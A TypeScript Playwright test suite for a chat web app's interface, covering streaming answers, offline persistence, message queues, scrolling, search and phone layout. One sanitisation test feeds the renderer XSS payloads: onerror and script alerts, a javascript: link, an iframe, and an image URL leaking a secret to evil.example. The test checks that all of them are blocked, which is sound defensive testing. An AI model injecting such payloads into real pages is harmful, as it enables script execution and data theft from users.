/** The built page in a real browser against a feed played by hand: what no pure test can see. */
import type { Page } from 'playwright-core';
import { beforeEach, describe, expect, test } from 'vitest';
import type { Feed } from './harness/feed.ts';
import { ORIGIN, type Site } from './harness/site.ts';
import { ADDRESS, useStage } from './harness/stage.ts';

const stage = useStage();
let page: Page;
let feed: Feed;
let site: Site;
beforeEach(() => {
  ({ page, feed, site } = stage);
});

const composer = () => stage.composer;
const messages = () => stage.messages;
const live = () => stage.live();
const sent = () => stage.sent();
const until = (check: () => boolean) => expect.poll(check, { timeout: 10_000 }).toBe(true);
const scrollTop = () => page.locator('.scroller').evaluate((element) => element.scrollTop);
const fromEnd = () =>
  page.locator('.scroller').evaluate((element) => element.scrollHeight - element.scrollTop - element.clientHeight);

/** Everything that this browser keeps of what was written, in both of its stores. */
function keptTexts(): Promise<string> {
  return page.evaluate(async () => {
    const request = indexedDB.open('switchboard');
    const database = await new Promise<IDBDatabase>((resolve) => {
      request.onsuccess = () => resolve(request.result);
    });
    const rows = database.transaction('pending').objectStore('pending').getAll();
    const pending = await new Promise((resolve) => {
      rows.onsuccess = () => resolve(rows.result);
    });
    database.close();
    return JSON.stringify([Object.entries(localStorage), pending]);
  });
}

const open = () => stage.open();
const say = (text: string) => stage.say(text);

function exchange(text: string, answer: string): void {
  feed.begin(feed.record({ kind: 'message', id: `m${feed.records.length}`, text, priority: 0 }).seq);
  feed.say(answer);
  feed.end('reply');
}

describe('an answer', () => {
  test('grows in place: finished blocks are never drawn again, and the end of it moves nothing', async () => {
    await open();
    await say('Hello');
    await page.getByTestId('running').waitFor();
    feed.say('First paragraph.\n\n```ts\nlet a = 1;\n```\n\nThi');
    await page.getByText('Thi', { exact: true }).waitFor();
    const mark = (name: string) =>
      page.evaluate((value) => {
        for (const element of document.querySelectorAll('[data-role=bot] .markdown > *:not(:last-child)')) {
          element.setAttribute('data-mark', value);
        }
      }, name);
    await mark('kept');
    feed.say('rd paragraph.\n\nFourth.');
    await page.getByText('Fourth.').waitFor();
    feed.end('reply');
    await page.locator('[data-testid=message][data-role=bot][data-status=complete]').waitFor();
    expect(await page.locator('[data-mark=kept]').count()).toBe(2);
    expect(await page.locator('[data-role=bot] .markdown').innerText()).toMatch(
      /First paragraph\.[^]*Third paragraph\.\s+Fourth\./,
    );
  });

  test('cannot run, load or point to anything but what a reader may follow', async () => {
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    exchange(
      'Attack me',
      [
        '<img src="https://evil.example/x.png" onerror="alert(1)"> <script>alert(1)</script>',
        '![leak](https://evil.example/leak.png?secret) [bad](javascript:alert(1)) [good](https://good.example/)',
        '<iframe src="https://evil.example"></iframe>\n\n<style>*{display:none}</style>',
      ].join('\n\n'),
    );
    await open();
    await page.getByRole('link', { name: 'good' }).waitFor();
    const links = await page
      .locator('.markdown a')
      .evaluateAll((found) =>
        found.map((link) => [link.getAttribute('href'), link.getAttribute('rel'), link.getAttribute('target')]),
      );
    const rel = 'noopener noreferrer nofollow';
    expect(links).toEqual([
      ['https://evil.example/leak.png?secret', rel, '_blank'],
      ['https://good.example/', rel, '_blank'],
    ]);
    expect(await page.locator('.markdown :is(img, script, iframe, style)').count()).toBe(0);
    expect(asked.filter((url) => !url.startsWith(ORIGIN))).toEqual([]);
  });

  test('says why it failed, and is asked for again', async () => {
    await open();
    await say('Hello');
    await page.getByTestId('running').waitFor();
    feed.end('failed');
    expect(await page.getByTestId('failure').innerText()).toContain('idle_timeout');
    await page.getByTestId('try-again').click();
    await until(() => feed.heard.some(({ type }) => type === 'regenerate'));
  });

  test('is stopped by Escape in the message field', async () => {
    await open();
    await say('Hello');
    await page.getByTestId('running').waitFor();
    feed.say('Half of');
    await composer().press('Escape');
    await page.getByText('Stopped', { exact: true }).waitFor();
    expect(await messages().last().getAttribute('data-status')).toBe('stopped');
  });
});

describe('nothing written is lost', () => {
  test('what was written without a connection is kept over a reload and sent once, in order', async () => {
    await open();
    site.reachable = false;
    feed.drop();
    await page.locator('[data-testid=connection]:not([data-state=live])').waitFor();
    await say('one');
    await say('two');
    await expect.poll(() => page.getByTestId('pending-item').count()).toBe(2);
    await page.reload();
    await expect.poll(() => page.getByTestId('pending-item').count()).toBe(2);
    expect(sent()).toEqual([]);
    site.reachable = true;
    await until(() => sent().length >= 2);
    await expect.poll(() => page.getByTestId('pending-item').count()).toBe(0);
    expect(sent()).toEqual(['one', 'two']);
  });

  test('it is sent though another chat was opened meanwhile', async () => {
    await open();
    feed.acknowledges = false;
    await say('for the first chat');
    await until(() => sent().length === 1);
    site.reachable = false;
    feed.drop();
    await page.getByTestId('new-chat').click();
    feed.acknowledges = true;
    site.reachable = true;
    await until(() => feed.records.some((record) => record.kind === 'message' && record.text === 'for the first chat'));
  });

  test('a deleted chat leaves no text in the browser: neither what was typed nor what was not sent', async () => {
    const working = stage.answers;
    stage.answers = (method, url, body) => (method === 'DELETE' ? { body: {} } : working(method, url, body));
    await open();
    feed.acknowledges = false;
    await say('secret message');
    await until(() => sent().length === 1);
    await composer().fill('secret draft');
    await expect.poll(keptTexts).toMatch(/secret draft[^]*secret message/);
    await page.locator('.header').getByLabel('Actions for A chat').click();
    await page.locator('.header').getByRole('button', { name: 'Delete' }).click();
    await page.getByTestId('confirm').click();
    await page.getByRole('heading', { name: 'What is on your mind?' }).waitFor();
    await expect.poll(keptTexts).not.toMatch(/secret|s_aaaa/);
  });

  test('nor does one that was deleted elsewhere', async () => {
    await open();
    feed.acknowledges = false;
    await say('secret message');
    await until(() => sent().length === 1);
    await composer().fill('secret draft');
    feed.drop(4404);
    await page.getByTestId('session-missing').waitFor();
    await expect.poll(keptTexts).not.toMatch(/secret|s_aaaa/);
  });

  test('where the browser keeps nothing, a person is told', async () => {
    await page.addInitScript(`IDBFactory.prototype.open = () => { throw new Error('refused'); };`);
    await open();
    await page.getByText('will not survive a reload').waitFor();
    await say('still sent');
    await until(() => sent().includes('still sent'));
  });

  test('a draft is kept for its own chat', async () => {
    await open();
    await composer().fill('half a thought');
    await page.getByTestId('new-chat').click();
    await expect.poll(() => composer().inputValue()).toBe('');
    await page.goto(ADDRESS);
    await page.reload();
    await expect.poll(() => composer().inputValue()).toBe('half a thought');
  });

  test('a chat that could not be made gives the text back', async () => {
    const working = stage.answers;
    stage.answers = (method, url, body) =>
      method === 'POST'
        ? { status: 503, body: { code: 'unavailable', detail: 'Not just now.' } }
        : working(method, url, body);
    await page.goto(ORIGIN);
    await say('precious');
    await page.getByText('Not just now.').waitFor();
    expect(await composer().inputValue()).toBe('precious');
    stage.answers = working;
    await composer().press('Enter');
    await until(() => sent().includes('precious'));
    expect(await composer().inputValue()).toBe('');
  });
});

describe('the message field', () => {
  test('Enter sends, Shift+Enter does not, nor does the Enter of an input method', async () => {
    await open();
    await composer().fill('a');
    await composer().press('Shift+Enter');
    await composer().pressSequentially('b');
    await composer().evaluate((element) => {
      element.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true }));
    });
    // Safari: after the composition, told apart only by its key code.
    await composer().evaluate((element) => {
      element.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', keyCode: 229, bubbles: true }));
    });
    expect(sent()).toEqual([]);
    await composer().press('Enter');
    await until(() => sent().length === 1);
    expect(sent()).toEqual(['a\nb']);
  });

  test('messages wait in line, and can be changed and withdrawn', async () => {
    await open();
    await say('first');
    await page.getByTestId('running').waitFor();
    await say('second');
    await say('third');
    const items = page.getByTestId('queue-item');
    await expect
      .poll(() => items.allInnerTexts())
      .toEqual([expect.stringContaining('second'), expect.stringContaining('third')]);
    await items.first().getByTestId('queue-edit').click();
    await page.getByLabel('Waiting message', { exact: true }).fill('second, better');
    await page.keyboard.press('Enter');
    await items.first().getByText('second, better').waitFor();
    await items.last().getByTestId('queue-cancel').click();
    await expect.poll(() => items.count()).toBe(1);
    expect(feed.records.slice(-2)).toMatchObject([{ kind: 'edited', text: 'second, better' }, { kind: 'cancelled' }]);
    feed.end('reply');
    await messages().getByText('second, better').waitFor();
    expect(await page.getByText('third').count()).toBe(0);
  });

  test('a change that was not saved when its message had its turn goes to the message field', async () => {
    await open();
    const field = page.getByLabel('Waiting message', { exact: true });
    const change = async (text: string, better: string) => {
      await say(text);
      await page.getByTestId('queue-edit').click();
      await field.fill(better);
    };
    await say('first');
    await page.getByTestId('running').waitFor();
    await change('second', 'second, better');
    feed.end('reply');
    await page.getByText('no longer waits').waitFor();
    expect(await composer().inputValue()).toBe('second, better');
    await page.getByTestId('toasts').getByRole('button').click();
    await composer().fill('');
    await change('third', 'third, better');
    await composer().fill('a draft');
    feed.end('reply');
    await expect.poll(() => composer().inputValue()).toBe('a draft\nthird, better');
    await page.reload();
    await expect.poll(() => composer().inputValue()).toBe('a draft\nthird, better');
    await composer().fill('');
    await change('fourth', 'fourth, worse');
    await field.press('Escape');
    feed.end('reply');
    await messages().getByText('fourth').waitFor();
    expect(await composer().inputValue()).toBe('');
  });

  test('a text over the limit is not sent and says so', async () => {
    await open();
    await composer().fill('x'.repeat(33_000));
    expect(await page.locator('#length-note').innerText()).toContain('Too long by 232 bytes');
    expect(await page.getByTestId('send').isDisabled()).toBe(true);
  });
});

describe('reading', () => {
  const LINES = Array.from({ length: 40 }, (_, index) => `Line ${index}.`).join('\n\n');

  test('follows the end while the reader is there, and leaves them alone where they are not', async () => {
    exchange('Long one', LINES);
    await open();
    await say('Go on');
    await page.getByTestId('running').waitFor();
    feed.say(LINES);
    await expect.poll(fromEnd).toBeLessThan(2);
    await page.locator('.scroller').evaluate((element) => element.scrollTo(0, 400));
    await page.getByTestId('to-end').waitFor();
    feed.say(`\n\n${LINES}`);
    feed.end('reply');
    await messages().last().locator('footer').waitFor();
    expect(await scrollTop()).toBe(400);
    await page.getByTestId('to-end').click();
    await expect.poll(fromEnd).toBeLessThan(2);
  });

  test('older messages come above without moving what is read', async () => {
    for (let count = 0; count < 5; count += 1) exchange(`Question ${count}`, LINES);
    const working = stage.answers;
    const older = Array.from({ length: 6 }, (_, index) => {
      const seq = index + 2;
      return {
        role: 'user',
        seq,
        turn: seq,
        id: `old${seq}`,
        text: `Old ${seq}\n\n\n\n`,
        at: 1_000,
        status: 'accepted',
        priority: 0,
      };
    });
    stage.answers = (method, url, body) =>
      url.pathname.endsWith('/messages') ? { body: { messages: older, nextCursor: null } } : working(method, url, body);
    feed.firstSeq = 8;
    await open();
    await page.locator(`[data-seq="${feed.records.length}"] .markdown > p`).last().waitFor();
    await expect.poll(fromEnd).toBeLessThan(2);
    const target = messages().first();
    await page.locator('.scroller').evaluate((element) => element.scrollTo(0, 120));
    const first = await target.getAttribute('data-key');
    const place = () =>
      page.locator(`[data-key="${first}"]`).evaluate((element) => element.getBoundingClientRect().top);
    const before = await place();
    await page.getByText('Old 2').waitFor({ state: 'attached' });
    expect(Math.abs((await place()) - before)).toBeLessThanOrEqual(1);
    expect(await page.getByTestId('older').count()).toBe(0);
  });

  test('a long conversation is drawn where it is looked at, and what is drawn above it first moves nothing', async () => {
    for (let count = 0; count < 300; count += 1) exchange(`Question ${count}`, LINES.slice(0, 20 + (count % 9) * 40));
    await open();
    await messages().nth(599).waitFor();
    await expect.poll(fromEnd).toBeLessThan(2);
    const drawn = await messages().evaluateAll(
      (all) => all.filter((message) => message.checkVisibility({ contentVisibilityAuto: true })).length,
    );
    expect(drawn).toBeGreaterThan(0);
    expect(drawn).toBeLessThan(300);
    const worst = await page.locator('.scroller').evaluate(async (scroller) => {
      const frame = () => new Promise((resolve) => requestAnimationFrame(resolve));
      const { left, width, top, height } = scroller.getBoundingClientRect();
      let worst = 0;
      for (let step = 0; step < 150; step += 1) {
        const read = document.elementFromPoint(left + width / 2, top + height / 2)?.closest('.message, .stretch');
        const before = read?.getBoundingClientRect().top ?? NaN;
        scroller.scrollTop -= 200;
        await frame();
        await frame();
        worst = Math.max(worst, Math.abs((read?.getBoundingClientRect().top ?? NaN) - before - 200));
      }
      return worst;
    });
    expect(worst).toBeLessThanOrEqual(1);
  });

  test('the page takes the focus from nobody who has it before the first frame', async () => {
    await page.addInitScript(() => {
      const watch = new MutationObserver(() => {
        const field = document.querySelector<HTMLElement>('[data-testid="search"]');
        if (!field) return;
        watch.disconnect();
        field.focus();
      });
      watch.observe(document, { childList: true, subtree: true });
    });
    await page.goto(ORIGIN);
    await page.evaluate(() => new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn))));
    await page.waitForTimeout(100);
    expect(await page.evaluate(() => document.activeElement?.getAttribute('data-testid'))).toBe('search');
  });

  test('Control+K has the search field from the very next key on', async () => {
    await page.goto(ORIGIN);
    const field = await page.evaluate(() => {
      document.body.dispatchEvent(new KeyboardEvent('keydown', { key: 'k', ctrlKey: true, bubbles: true }));
      return document.activeElement?.getAttribute('data-testid');
    });
    expect(field).toBe('search');
  });

  test('a search hit opens at its message', async () => {
    exchange('How?', LINES);
    exchange('And then?', LINES);
    await page.goto(ORIGIN);
    await page.keyboard.press('Control+k');
    await page.keyboard.type('bucket');
    await page.getByTestId('search-hit').click();
    await live();
    await expect.poll(() => page.evaluate(() => document.activeElement?.getAttribute('data-seq'))).toBe('3');
  });

  test.each([
    ['short answers', 1, 1],
    ['short answers', 30, 1],
    ['tall answers', 1, 70],
    ['tall answers', 30, 70],
  ])('a search hit of a long conversation with %s, %d into its stretch, stays in view', async (_, place, length) => {
    const text = LINES.repeat(8).slice(0, length);
    for (let count = 0; count < 200; count += 1) exchange(`Question ${count}`, text);
    await open();
    await messages().nth(399).waitFor();
    const seq = await page.locator('.stretch').nth(3).getByTestId('message').nth(place).getAttribute('data-seq');
    const focus = () =>
      page.evaluate(() => {
        const focused = document.activeElement;
        return { seq: focused?.getAttribute('data-seq'), top: focused?.getBoundingClientRect().top ?? NaN };
      });
    await page.evaluate((hash) => void (location.hash = hash), `${new URL(ADDRESS).hash}/${seq}`);
    await expect.poll(async () => (await focus()).seq).toBe(seq);
    await page.evaluate(async () => {
      for (let frame = 0; frame < 10; frame += 1) await new Promise((resolve) => requestAnimationFrame(resolve));
    });
    const { top } = await focus();
    expect(top).toBeGreaterThan(0);
    expect(top).toBeLessThan(page.viewportSize()?.height ?? 0);
  });

  test('a search hit stays in view though the browser is late to tell that the page has scrolled', async () => {
    for (let count = 0; count < 200; count += 1) exchange(`Question ${count}`, 'Answer');
    await open();
    await messages().nth(399).waitFor();
    const seq = await messages().nth(200).getAttribute('data-seq');
    await page.evaluate(() => addEventListener('scroll', (event) => event.stopImmediatePropagation(), true));
    await page.evaluate((hash) => void (location.hash = hash), `${new URL(ADDRESS).hash}/${seq}`);
    await expect.poll(() => page.evaluate(() => document.activeElement?.getAttribute('data-seq'))).toBe(seq);
    // Something arrives at the end meanwhile.
    await page.getByTestId('messages').evaluate(async (element) => {
      element.style.paddingBottom = '300px';
      for (let frame = 0; frame < 10; frame += 1) await new Promise((resolve) => requestAnimationFrame(resolve));
    });
    const top = await page.evaluate(() => document.activeElement?.getBoundingClientRect().top ?? NaN);
    expect(top).toBeGreaterThan(0);
    expect(top).toBeLessThan(page.viewportSize()?.height ?? 0);
  });

  test('a search hit opens at its message, also when that comes long after the welcome', async () => {
    exchange('How?', LINES);
    feed.followsUp = false;
    await page.goto(ORIGIN);
    await page.keyboard.press('Control+k');
    await page.keyboard.type('bucket');
    await page.getByTestId('search-hit').click();
    await until(() => feed.heard.some(({ type }) => type === 'hello'));
    await page.getByTestId('messages').waitFor();
    // Two frames drawn: whatever follows from the welcome alone has been done.
    await page.evaluate(() => new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn))));
    feed.catchUp();
    await expect.poll(() => page.evaluate(() => document.activeElement?.getAttribute('data-seq'))).toBe('3');
  });

  test('a chat that is not there says so, and offers a new one', async () => {
    await page.goto(`${ORIGIN}/#/s/s_${'f'.repeat(32)}`);
    await page.getByTestId('session-missing').getByRole('link', { name: 'New chat' }).click();
    await page.getByRole('heading', { name: 'What is on your mind?' }).waitFor();
  });
});

describe('a small phone', () => {
  test('nothing is wider than the screen, and the list is a drawer that the keyboard can leave', async () => {
    exchange(
      'Show me',
      'A\n\n```ts\n' +
        'x'.repeat(300) +
        '\n```\n\n' +
        '| a | b |\n|---|---|\n' +
        '| ' +
        'word '.repeat(60) +
        '| ' +
        'y'.repeat(200) +
        ' |\n',
    );
    await page.setViewportSize({ width: 360, height: 640 });
    await open();
    feed.tell({ type: 'presence', tabs: 12 });
    await page.getByTestId('tabs').waitFor();
    await page.locator('.table-scroll').waitFor();
    const wider = await page.evaluate(() =>
      [...document.querySelectorAll('.main *')]
        .filter((element) => element.closest('pre, .table-scroll') === null || element.matches('pre, .table-scroll'))
        .filter((element) => element.getBoundingClientRect().right > innerWidth)
        .map((element) => element.className),
    );
    expect(wider).toEqual([]);
    expect(await page.locator('.header').evaluate((element) => element.clientHeight)).toBeLessThan(64);
    expect(await page.getByTestId('session-item').first().isVisible()).toBe(false);
    await page.getByTestId('drawer').click();
    await page.getByTestId('session-item').first().waitFor();
    await expect.poll(() => page.evaluate(() => document.activeElement?.getAttribute('data-testid'))).toBe('new-chat');
    await page.keyboard.press('Escape');
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('drawer-button');
  });
});
